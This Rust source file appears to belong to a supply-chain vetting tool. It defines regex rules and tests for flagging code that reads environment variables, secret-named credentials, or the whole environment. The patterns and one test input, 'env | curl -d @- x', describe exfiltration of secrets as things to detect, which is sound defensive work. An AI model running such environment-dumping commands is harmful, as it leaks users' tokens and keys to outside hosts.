//! Variables of the environment.

use std::sync::LazyLock;

use exuvia_model::vetting::FindingKind;
use regex::Regex;

use crate::pattern::pattern;
use crate::vet::role::Role;
use crate::vet::rule::{Hit, Place, Rule, Rules, distinct};
use crate::vet::source::Source;

/// Every variable that a program reads. One whose name says secret is a credential.
pub(super) fn hits(source: &Source<'_>) -> Vec<Hit> {
    let mut hits: Vec<Hit> = RULES
        .hits(source)
        .into_iter()
        .filter(|hit| !SAYS_NOTHING.contains(&hit.subject.as_str()))
        .map(named)
        .collect();
    hits.extend(destructured(source));
    hits
}

fn named(hit: Hit) -> Hit {
    if hit.kind == FindingKind::EnvironmentAccess && SECRET.is_match(&hit.subject) {
        Hit {
            kind: FindingKind::CredentialAccess,
            ..hit
        }
    } else {
        hit
    }
}

/// `const { A_TOKEN, B } = process.env`.
fn destructured(source: &Source<'_>) -> Vec<Hit> {
    if !matches!(source.role, Role::Code(_)) {
        return Vec::new();
    }
    let hits = DESTRUCTURED
        .captures_iter(&source.text)
        .filter_map(|captures| captures.get(1))
        .flat_map(|names| {
            NAME.find_iter(names.as_str()).map(move |name| {
                let start = names.start() + name.start();
                named(Hit {
                    kind: FindingKind::EnvironmentAccess,
                    subject: name.as_str().to_owned(),
                    range: start..start + name.len(),
                })
            })
        });
    distinct(source, hits)
}

static RULES: LazyLock<Rules> = LazyLock::new(|| Rules::new(&LIST));

const fn variable(place: Place, find: &'static str) -> Rule {
    Rule {
        kind: FindingKind::EnvironmentAccess,
        subject: "",
        place,
        find,
        unless: "",
    }
}

const fn whole(kind: FindingKind, find: &'static str) -> Rule {
    Rule {
        kind,
        subject: "the whole environment",
        place: Place::Commands,
        find,
        unless: "",
    }
}

const LIST: [Rule; 10] = [
    variable(
        Place::Code,
        r"\b(?:process|import\.meta|Bun)\.env(?:\?)?\.([A-Za-z_][A-Za-z0-9_]{0,80})",
    ),
    variable(
        Place::Code,
        r#"\b(?:process|import\.meta|Bun)\.env\[\s*["'`]([A-Za-z_][A-Za-z0-9_]{0,80})["'`]"#,
    ),
    variable(
        Place::Code,
        r#"\bos\.environ(?:\.get\(|\.pop\(|\[)\s*["']([A-Za-z_][A-Za-z0-9_]{0,80})"#,
    ),
    variable(
        Place::Code,
        r#"(?i)\b(?:getenv|Deno\.env\.get|env::var(?:_os)?|GetEnvironmentVariable)\(\s*["']([A-Za-z_][A-Za-z0-9_]{0,80})"#,
    ),
    variable(
        Place::Code,
        r#"\bENV(?:\.fetch\(|\[)\s*["']([A-Za-z_][A-Za-z0-9_]{0,80})"#,
    ),
    variable(Place::Commands, r"(?i)\$env:([A-Za-z_][A-Za-z0-9_]{0,80})"),
    // In a shell everything is a variable: only those with a secret's name count.
    variable(
        Place::Commands,
        r"\$\{?((?:[A-Z][A-Z0-9_]{0,60}_)?(?:TOKEN|KEY|SECRET|PASSWORD|PASSWD|CREDENTIALS?|APIKEY)(?:_[A-Z0-9_]{1,40})?)(?:[^A-Za-z0-9_]|$)",
    ),
    whole(
        FindingKind::CredentialAccess,
        r"(?i)(?:JSON\.stringify|Object\.(?:keys|entries|values))\(\s*process\.env\s*[,)]|\bjson\.dumps\(\s*(?:dict\()?\s*os\.environ|\bdict\(\s*os\.environ\s*\)|\bprintenv\s*(?:\||>|$)|(?:^|[\s;&(`])env\s*\|",
    ),
    whole(
        FindingKind::EnvironmentAccess,
        r"\.\.\.process\.env\b|[=(,:]\s*process\.env\s*[,;)}]|\bos\.environ\.copy\(\)|\bos\.environ\s*[,)]",
    ),
    whole(
        FindingKind::EnvironmentAccess,
        r"\bDeno\.env\.toObject\(|\benv::vars\(",
    ),
];

static DESTRUCTURED: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"\{([^{}]{1,400})\}\s*=\s*process\.env\b"));

static NAME: LazyLock<Regex> = LazyLock::new(|| pattern(r"\b[A-Z][A-Z0-9_]{1,80}\b"));

static SECRET: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)(?:^|_)(?:token|key|secret|password|passwd|pass|pwd|credentials?|apikey|auth|cookie|mnemonic|pat)(?:$|_|\d)",
    )
});

/// Variables that tell how to print and build, and nothing of anybody.
const SAYS_NOTHING: [&str; 8] = [
    "NODE_ENV",
    "CI",
    "DEBUG",
    "NO_COLOR",
    "FORCE_COLOR",
    "TERM",
    "COLUMNS",
    "TZ",
];

#[cfg(test)]
mod tests {
    use FindingKind::{CredentialAccess, EnvironmentAccess};

    use super::*;
    use crate::vet::role::Language;

    fn found(text: &str) -> Vec<(FindingKind, String)> {
        let source = Source::new("file", Role::Code(Language::Other), text.to_owned());
        hits(&source)
            .into_iter()
            .map(|hit| (hit.kind, hit.subject))
            .collect()
    }

    #[test]
    fn variables_are_found_and_secrets_told_from_the_rest() {
        for (text, kind, name) in [
            ("process.env.ACME_TOKEN", CredentialAccess, "ACME_TOKEN"),
            (
                "process.env['ACME_API_KEY']",
                CredentialAccess,
                "ACME_API_KEY",
            ),
            ("process.env.ACME_REGION", EnvironmentAccess, "ACME_REGION"),
            (
                "process.env.KEYBOARD_LAYOUT",
                EnvironmentAccess,
                "KEYBOARD_LAYOUT",
            ),
            (
                "process.env.TOKENIZER_PATH",
                EnvironmentAccess,
                "TOKENIZER_PATH",
            ),
            ("os.environ['ACME_SECRET']", CredentialAccess, "ACME_SECRET"),
            (
                "os.environ.get(\"ACME_REGION\")",
                EnvironmentAccess,
                "ACME_REGION",
            ),
            ("os.getenv('DB_PASSWORD')", CredentialAccess, "DB_PASSWORD"),
            (
                "os.Getenv(\"ACME_REGION\")",
                EnvironmentAccess,
                "ACME_REGION",
            ),
            (
                "std::env::var(\"ACME_REGION\")",
                EnvironmentAccess,
                "ACME_REGION",
            ),
            ("ENV['ACME_REGION']", EnvironmentAccess, "ACME_REGION"),
            ("$env:ACME_TOKEN", CredentialAccess, "ACME_TOKEN"),
            (
                "curl -H \"Bearer $ACME_TOKEN\"",
                CredentialAccess,
                "ACME_TOKEN",
            ),
            ("echo ${OPENAI_API_KEY}", CredentialAccess, "OPENAI_API_KEY"),
            (
                "const { A_REGION } = process.env",
                EnvironmentAccess,
                "A_REGION",
            ),
            (
                "JSON.stringify(process.env)",
                CredentialAccess,
                "the whole environment",
            ),
            (
                "json.dumps(dict(os.environ))",
                CredentialAccess,
                "the whole environment",
            ),
            (
                "env | curl -d @- x",
                CredentialAccess,
                "the whole environment",
            ),
            (
                "spawn(a, { env: { ...process.env } })",
                EnvironmentAccess,
                "the whole environment",
            ),
        ] {
            assert!(
                found(text).contains(&(kind, name.to_owned())),
                "{text}: {:?}",
                found(text)
            );
        }
    }

    #[test]
    fn look_alikes_are_not_found() {
        for text in [
            "process.env.NODE_ENV",
            "echo $MONKEY $i $1",
            "the environment",
            "npm_env.js",
            "$HOME",
        ] {
            assert_eq!(found(text), Vec::new(), "{text}");
        }
    }
}
